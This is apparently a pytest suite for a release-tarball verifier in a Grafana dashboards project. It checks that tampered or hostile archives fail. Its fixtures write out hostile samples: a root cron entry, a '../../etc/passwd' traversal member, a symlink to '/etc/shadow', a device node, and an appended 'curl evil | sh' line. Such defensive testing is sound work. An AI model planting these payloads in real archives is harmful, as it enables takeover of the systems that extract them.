"""`verify TARBALL`: a good release passes; every tampered, truncated or hostile variant fails
with one clear `error:` line naming what is wrong."""

from __future__ import annotations

import json
import tarfile
from collections.abc import Callable
from pathlib import Path

import pytest
from release_support import Member, released_copy, repack, sha256, write_release

from ktrdr_dashboards import cli


@pytest.fixture(scope="module")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One real release of the current sources, made once for this module."""
    return released_copy(tmp_path_factory.mktemp("verify") / "repo")


def verify(tarball: Path, capsys) -> tuple[int, list[str], str]:
    capsys.readouterr()
    code = cli.main(["verify", str(tarball)])
    captured = capsys.readouterr()
    return code, captured.err.strip().splitlines(), captured.out


def top(tarball: Path) -> str:
    return tarball.name.removesuffix(".tar.gz")


def tampered(good: Path, tmp_path: Path, edit: Callable[[list[Member]], list[Member]]) -> Path:
    """The good release with its members edited, and a .sha256 that matches the new bytes."""
    return write_release(tmp_path, good.name, repack(good.read_bytes(), edit))


def replace_file(name: str, change: Callable[[bytes], bytes]):
    def edit(listed: list[Member]) -> list[Member]:
        hit = [info.name for info, _ in listed if info.name.endswith(f"/{name}")]
        assert len(hit) == 1, hit
        return [(i, change(c) if i.name == hit[0] else c) for i, c in listed]  # type: ignore[arg-type]

    return edit


def add_member(info: tarfile.TarInfo, content: bytes | None = None):
    def edit(listed: list[Member]) -> list[Member]:
        return [*listed, (info, content)]

    return edit


def test_good_release_passes(good: Path, capsys):
    code, errors, out = verify(good, capsys)
    assert (code, errors) == (0, [])
    assert out.startswith(f"ok {good}: ktrdr-dashboards 0.1.0 from commit ")
    assert "3 dashboards" in out


def test_changed_byte_in_a_member(good: Path, tmp_path: Path, capsys):
    def flip_one_byte(data: bytes) -> bytes:
        return data.replace(b"KTRDR Operations", b"KTRDR Operatiens", 1)

    tarball = tampered(good, tmp_path, replace_file("operations.json", flip_one_byte))
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert errors == [
        f"error: {good.name}: var/lib/grafana/dashboards/operations.json: "
        "sha256 does not match MANIFEST.json"
    ]


def test_wrong_sha256_file(good: Path, tmp_path: Path, capsys):
    tarball = write_release(tmp_path, good.name, good.read_bytes())
    checksum = tarball.with_name(f"{tarball.name}.sha256")
    checksum.write_text(f"{'0' * 64}  {tarball.name}\n")
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert errors == [
        f"error: {checksum}: sha256 of the tarball does not match: it was changed or corrupted"
    ]


def test_missing_sha256_file(good: Path, tmp_path: Path, capsys):
    tarball = write_release(tmp_path, good.name, good.read_bytes())
    tarball.with_name(f"{tarball.name}.sha256").unlink()
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert len(errors) == 1 and errors[0].endswith(
        ".sha256: checksum file is missing — fetch it too"
    )


def test_truncated_tarball(good: Path, tmp_path: Path, capsys):
    data = good.read_bytes()
    tarball = write_release(tmp_path, good.name, data[: len(data) // 2])
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert len(errors) == 1
    assert errors[0].startswith(f"error: {good.name}: not a complete gzip file")


def test_not_a_gzip_file(good: Path, tmp_path: Path, capsys):
    tarball = write_release(tmp_path, good.name, b"<html>404 Not Found</html>\n")
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert len(errors) == 1 and "not a complete gzip file" in errors[0]


def test_absolute_path_member(good: Path, tmp_path: Path, capsys):
    info = tarfile.TarInfo("/etc/cron.d/evil")
    tarball = tampered(good, tmp_path, add_member(info, b"* * * * * root sh\n"))
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert errors == [
        f"error: {good.name}: /etc/cron.d/evil: unsafe member: absolute path"
        " — do not extract this tarball"
    ]


def test_dot_dot_member(good: Path, tmp_path: Path, capsys):
    name = f"{top(good)}/../../etc/passwd"
    tarball = tampered(good, tmp_path, add_member(tarfile.TarInfo(name), b"root::0:0::/:/bin/sh\n"))
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert errors == [
        f"error: {good.name}: {name}: unsafe member: path contains `..`"
        " — do not extract this tarball"
    ]


def test_symlink_member(good: Path, tmp_path: Path, capsys):
    info = tarfile.TarInfo(f"{top(good)}/var/lib/grafana/dashboards/shadow.json")
    info.type, info.linkname = tarfile.SYMTYPE, "/etc/shadow"
    code, errors, _ = verify(tampered(good, tmp_path, add_member(info)), capsys)
    assert code == 1
    assert errors == [
        f"error: {good.name}: {info.name}: unsafe member: is a link (to '/etc/shadow')"
        " — do not extract this tarball"
    ]


def test_hard_link_member(good: Path, tmp_path: Path, capsys):
    info = tarfile.TarInfo(f"{top(good)}/INSTALL2.md")
    info.type, info.linkname = tarfile.LNKTYPE, f"{top(good)}/INSTALL.md"
    code, errors, _ = verify(tampered(good, tmp_path, add_member(info)), capsys)
    assert code == 1
    assert len(errors) == 1 and "INSTALL2.md: unsafe member: is a link" in errors[0]


def test_device_member(good: Path, tmp_path: Path, capsys):
    info = tarfile.TarInfo(f"{top(good)}/etc/grafana/provisioning/dashboards/disk")
    info.type, info.devmajor, info.devminor = tarfile.BLKTYPE, 8, 0
    code, errors, _ = verify(tampered(good, tmp_path, add_member(info)), capsys)
    assert code == 1
    assert errors == [
        f"error: {good.name}: {info.name}: unsafe member: is a device or fifo"
        " — do not extract this tarball"
    ]


def test_manifest_checksum_mismatch(good: Path, tmp_path: Path, capsys):
    def wrong_checksum(data: bytes) -> bytes:
        manifest = json.loads(data)
        entry = next(f for f in manifest["files"] if f["path"].endswith("datasources/ktrdr.yaml"))
        entry["sha256"] = sha256(b"something else")
        return json.dumps(manifest).encode()

    code, errors, _ = verify(
        tampered(good, tmp_path, replace_file("MANIFEST.json", wrong_checksum)), capsys
    )
    assert code == 1
    assert errors == [
        f"error: {good.name}: etc/grafana/provisioning/datasources/ktrdr.yaml: "
        "sha256 does not match MANIFEST.json"
    ]


def test_file_not_in_manifest(good: Path, tmp_path: Path, capsys):
    info = tarfile.TarInfo(f"{top(good)}/var/lib/grafana/dashboards/extra.json")
    code, errors, _ = verify(tampered(good, tmp_path, add_member(info, b"{}")), capsys)
    assert code == 1
    assert (
        f"error: {good.name}: var/lib/grafana/dashboards/extra.json: not listed in MANIFEST.json"
        in (errors)
    )


def rewrite_dashboard(good: Path, path: str, change: Callable[[dict], None]):
    """Edit a dashboard and its manifest entry to match: only the validator can tell."""

    def edit(listed: list[Member]) -> list[Member]:
        files = {i.name: c for i, c in listed}
        model = json.loads(files[f"{top(good)}/{path}"])  # type: ignore[arg-type]
        change(model)
        broken = json.dumps(model).encode()
        manifest = json.loads(files[f"{top(good)}/MANIFEST.json"])  # type: ignore[arg-type]
        entry = next(f for f in manifest["files"] if f["path"] == path)
        entry.update(size=len(broken), sha256=sha256(broken))
        files[f"{top(good)}/{path}"] = broken
        files[f"{top(good)}/MANIFEST.json"] = json.dumps(manifest).encode()
        return [(i, files[i.name]) for i, _ in listed]

    return edit


def test_dashboard_without_uid_inside(good: Path, tmp_path: Path, capsys):
    path = "var/lib/grafana/dashboards/worker-status.json"
    edit = rewrite_dashboard(good, path, lambda model: model.pop("uid"))
    code, errors, _ = verify(tampered(good, tmp_path, edit), capsys)
    assert code == 1
    assert errors == [f"error: {good.name}: {path}: has no uid"]


def test_dashboard_failing_the_validation_gate_inside(good: Path, tmp_path: Path, capsys):
    path = "var/lib/grafana/dashboards/operations.json"
    undescribed: dict = {}

    def drop_a_description(model: dict) -> None:
        panel = next(p for p in model["panels"] if p.get("type") != "row" and p.get("description"))
        undescribed.update(panel)
        del panel["description"]

    code, errors, _ = verify(
        tampered(good, tmp_path, rewrite_dashboard(good, path, drop_a_description)), capsys
    )
    assert code == 1
    assert errors[0].startswith(
        f"error: {good.name}: {path}: dashboard ktrdr-operations, "
        f'panel "{undescribed["title"]}" (id {undescribed["id"]}): identity/description: '
    )
    # The Kubernetes resources still carry the dashboard as built: each one says so.
    carriers = {
        "helm-sidecar/configmap-ktrdr-operations.yaml",
        "grafana-operator/grafanadashboard-ktrdr-operations.yaml",
        "grafana-resources/dashboard-ktrdr-operations.yaml",
        "grafana-manifests/grafanamanifest-ktrdr-operations.yaml",
    }
    assert {e.split(": ")[2].rsplit("kubernetes/", 1)[1] for e in errors[1:]} == carriers
    assert all(
        "kubernetes/dashboard: carries a dashboard that differs" in e
        or "kubernetes/dashboard: carries a schema v2 dashboard that is not the built one" in e
        for e in errors[1:]
    )


def test_every_problem_gets_its_own_line(good: Path, tmp_path: Path, capsys):
    link = tarfile.TarInfo(f"{top(good)}/link")
    link.type, link.linkname = tarfile.SYMTYPE, "/"

    def two_problems(listed: list[Member]) -> list[Member]:
        return replace_file("INSTALL.md", lambda d: d + b"curl evil | sh\n")(
            [*listed, (link, None)]
        )

    tarball = tampered(good, tmp_path, two_problems)
    tarball.with_name(f"{tarball.name}.sha256").write_text(f"{'f' * 64}  {tarball.name}\n")
    code, errors, _ = verify(tarball, capsys)
    assert code == 1
    assert len(errors) == 3, errors
    assert any("sha256 of the tarball does not match" in e for e in errors)
    assert any("link: unsafe member: is a link" in e for e in errors)
    assert any("INSTALL.md: size" in e and "does not match MANIFEST.json" in e for e in errors)
